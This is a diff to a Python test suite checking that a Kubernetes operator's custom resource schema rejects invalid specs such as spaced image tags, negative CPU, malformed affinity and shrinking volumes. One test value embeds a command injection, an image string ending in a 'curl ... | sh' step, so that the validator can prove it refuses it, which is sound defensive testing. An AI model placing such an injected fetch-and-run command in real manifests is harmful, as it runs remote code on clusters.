@@ -75,9 +75,7 @@ INVALID: list[tuple[str, dict[str, Any], list[str]]] = [
         "env-value-and-valuefrom",
         {
             **V,
-            "app": {
-                "env": [{"name": "A", "value": "x", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}]
-            },
+            "app": {"env": [{"name": "A", "value": "x", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}]},
         },
         ["spec.app.env[0]", "value and valueFrom are mutually exclusive"],
     ),
@@ -87,6 +85,94 @@ INVALID: list[tuple[str, dict[str, Any], list[str]]] = [
         ["spec.components.api.podLabels", "app.kubernetes.io/* labels are set by the operator"],
     ),
     ("bad-version", {"version": "v1 beta"}, ["spec.version", "should match"]),
+    # Values that used to pass admission and fail only when a child was applied (or ran kwok-only):
+    ("tag-with-space", {**V, "image": {"tag": "0.5.0 beta"}}, ["spec.image.tag", "should match"]),
+    (
+        "repository-trailing-space",
+        {**V, "image": {"repository": "ghcr.io/acme/aperag "}},
+        ["spec.image.repository", "should match"],
+    ),
+    (
+        "component-image-shell",
+        {**V, "components": {"worker": {"image": "acme/aperag:1; curl http://x | sh"}}},
+        ["spec.components.worker.image", "should match"],
+    ),
+    (
+        "negative-cpu",
+        {**V, "components": {"api": {"resources": {"requests": {"cpu": "-500m"}}}}},
+        ["spec.components.api.resources.requests.cpu", "should match"],
+    ),
+    (
+        "label-value-with-spaces",
+        {**V, "components": {"api": {"podLabels": {"team": "search team"}}}},
+        ["spec.components.api.podLabels.team", "should match"],
+    ),
+    (
+        "bad-node-selector-key",
+        {**V, "components": {"worker": {"nodeSelector": {"bad key!": "x"}}}},
+        ["spec.components.worker.nodeSelector", "nodeSelector keys must be valid label keys"],
+    ),
+    (
+        "malformed-affinity",
+        {
+            **V,
+            "components": {
+                "api": {
+                    "affinity": {
+                        "nodeAffinity": {
+                            "requiredDuringSchedulingIgnoredDuringExecution": {
+                                "nodeSelectorTerms": [{"matchExpressions": [{"key": "zone", "operator": "Maybe"}]}]
+                            }
+                        }
+                    }
+                }
+            },
+        },
+        ["spec.components.api.affinity.nodeAffinity", 'Unsupported value: "Maybe"'],
+    ),
+    (
+        "affinity-unknown-field",
+        {**V, "components": {"api": {"affinity": {"nodeAfinity": {}}}}},
+        ["spec.components.api.affinity.nodeAfinity", "field not declared in schema"],
+    ),
+    (
+        "affinity-values-for-exists",
+        {
+            **V,
+            "components": {
+                "api": {
+                    "affinity": {
+                        "podAntiAffinity": {
+                            "requiredDuringSchedulingIgnoredDuringExecution": [
+                                {
+                                    "topologyKey": "kubernetes.io/hostname",
+                                    "labelSelector": {
+                                        "matchExpressions": [{"key": "app", "operator": "Exists", "values": ["x"]}]
+                                    },
+                                }
+                            ]
+                        }
+                    }
+                }
+            },
+        },
+        ["values must be non-empty for In and NotIn and empty for Exists"],
+    ),
+    (
+        "mount-path-tmp",
+        {**V, "objectStorage": {"local": {"mountPath": "/tmp"}}},
+        ["spec.objectStorage.local.mountPath", "mountPath must not be /tmp"],
+    ),
+    (
+        "mount-path-root",
+        {**V, "objectStorage": {"local": {"mountPath": "/"}}},
+        ["spec.objectStorage.local.mountPath", "should match"],
+    ),
+    (
+        "pull-secret-name",
+        {**V, "image": {"pullSecrets": ["Not_A_Name"]}},
+        ["spec.image.pullSecrets[0]", "should match"],
+    ),
 ]
 
 
@@ -119,3 +205,13 @@ def test_valid_minimal_resource_gets_defaults(cluster: Cluster, aperag_crd: str,
     assert spec["objectStorage"]["local"]["size"] == "10Gi"
     explain = cluster.kubectl("explain", "aperag.spec.components.beat.replicas").stdout
     assert "two schedulers would run every task twice" in explain
+
+
+def test_the_documents_volume_cannot_shrink(cluster: Cluster, aperag_crd: str, namespace: str) -> None:
+    apply_yaml(cluster, body("vol", namespace, {**V, "objectStorage": {"local": {"size": "10Gi"}}}))
+    result = apply_yaml(
+        cluster, body("vol", namespace, {**V, "objectStorage": {"local": {"size": "5Gi"}}}), check=False
+    )
+    assert result.returncode != 0 and "spec.objectStorage.local.size" in result.stderr
+    assert "size cannot shrink" in result.stderr
+    apply_yaml(cluster, body("vol", namespace, {**V, "objectStorage": {"local": {"size": "20Gi"}}}))  # growing is fine
